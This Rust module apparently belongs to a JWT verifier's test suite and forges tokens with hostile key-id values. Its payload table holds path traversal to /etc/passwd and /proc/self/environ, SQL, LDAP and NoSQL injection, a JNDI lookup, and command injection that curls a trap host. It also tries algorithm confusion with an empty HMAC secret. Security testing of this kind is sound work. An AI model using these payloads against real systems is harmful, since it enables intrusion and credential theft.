//! Ids of keys that are none: paths, statements, addresses, keys themselves.

use super::forger::{Forger, encoded, pem, sign};
use super::{Forged, forged};
use jsonwebtoken::{Algorithm, EncodingKey};
use serde_json::{Value, json};

pub(super) fn all(forger: &Forger) -> Vec<Forged> {
    let [_, payload, signature] = forger.parts();
    let nothing = EncodingKey::from_secret(b"");
    let mut all = Vec::new();
    for kid in kids(forger) {
        let how = format!("kid {kid:.40}");
        let header = forger.header_with("kid", kid);
        all.push(forged(&how, forger.sign(&header, &forger.claims())));
        all.push(forged(
            &how,
            forger.sign_as_we_do(&header, &forger.claims()),
        ));
        // Where a lookup finds nothing, a secret of nothing may fit.
        let hmac = header.to_string().replace("RS256", "HS256");
        let hmac = sign(
            hmac,
            forger.claims().to_string(),
            &nothing,
            Algorithm::HS256,
        );
        all.push(forged(&how, hmac));
        let header = encoded(header.to_string());
        all.push(forged(&how, format!("{header}.{payload}.{signature}")));
    }
    all.extend(our_kid(forger));
    all
}

#[expect(clippy::too_many_lines, reason = "a table, read from top to bottom")]
fn kids(forger: &Forger) -> Vec<Value> {
    let (kid, trap) = (forger.kid(), forger.trap);
    let texts = [
        "../../../../../../dev/null".into(),
        "/dev/null".into(),
        "/dev/zero".into(),
        "/proc/self/environ".into(),
        "..\\..\\windows\\win.ini".into(),
        "file:///etc/passwd".into(),
        "keys/audit.ed25519".into(),
        "jwt-20260101T000000Z.pem".into(),
        format!("./{kid}"),
        format!("{kid}/../{kid}"),
        format!("{kid}.pem"),
        format!("http://{trap}/kid"),
        format!("//{trap}/kid"),
        format!("ldap://{trap}/a"),
        format!("${{jndi:ldap://{trap}/a}}"),
        "' or '1'='1".into(),
        "x' union select 'secret' --".into(),
        "1; drop table app.user; --".into(),
        "\" or \"\"=\"".into(),
        "%27%20or%201=1".into(),
        "*".into(),
        "*)(uid=*".into(),
        "%".into(),
        "_".repeat(43),
        "|id".into(),
        format!("$(curl {trap})"),
        format!("`curl {trap}`"),
        "{{7*7}}".into(),
        "<script>".into(),
        String::new(),
        " ".into(),
        "\0".into(),
        format!("{kid}\0"),
        format!("{kid}\0.pem"),
        format!("\0{kid}"),
        format!(" {kid}"),
        format!("{kid} "),
        format!("{kid}\n"),
        format!("{kid}\t"),
        format!("{kid}="),
        format!("{kid}{kid}"),
        format!("{kid},{kid}"),
        format!("\"{kid}\""),
        kid[1..].to_owned(),
        kid[..42].to_owned(),
        kid.chars().rev().collect(),
        format!("\u{202e}{kid}"),
        "a".repeat(2_000),
        "0".into(),
        "-1".into(),
        "null".into(),
        "undefined".into(),
        "none".into(),
        "default".into(),
        pem("PUBLIC KEY", &forger.public.x509),
        encoded(&forger.public.x509),
        forger.jwk().to_string(),
        format!(
            "{}{}",
            &kid[..42],
            if kid.ends_with('A') { 'B' } else { 'A' }
        ),
        kid.replace(|c: char| c.is_ascii_lowercase(), "a"),
        encoded([7; 32]),
    ];
    let others = [
        json!(null),
        json!(0),
        json!(-1),
        json!(1.5),
        json!(true),
        json!([]),
        json!([kid]),
        json!([[kid]]),
        json!({}),
        json!({"kid": kid}),
        json!({"$ne": null}),
        json!({"$gt": ""}),
        forger.jwk(),
    ];
    texts
        .iter()
        .map(|text: &String| json!(text))
        .chain(others)
        .collect()
}

/// Our own id, on tokens that the key did not sign; also spelled in another way.
fn our_kid(forger: &Forger) -> Vec<Forged> {
    let (kid, payload) = (forger.kid(), forger.claims().to_string());
    let escaped: String = kid
        .chars()
        .map(|c| format!("\\u{:04x}", u32::from(c)))
        .collect::<Vec<_>>()
        .concat();
    let headers = [
        ("our kid", forger.header().to_string()),
        (
            "our kid, escaped",
            format!("{{\"typ\":\"at+jwt\",\"alg\":\"RS256\",\"kid\":\"{escaped}\"}}"),
        ),
        (
            "everything escaped",
            format!(
                "{{\"\\u0074yp\":\"at\\u002bjwt\",\"\\u0061lg\":\"RS\\u003256\",\"\\u006bid\":\"{kid}\"}}"
            ),
        ),
    ];
    let mut all = Vec::new();
    for (how, header) in headers {
        let theirs = sign(&header, &payload, &forger.rsa, Algorithm::RS256);
        let [_, _, good] = forger.parts();
        all.push(forged(
            how,
            format!("{}.{}.{good}", encoded(header + " "), encoded(&payload)),
        ));
        all.push(forged(how, theirs));
    }
    all
}
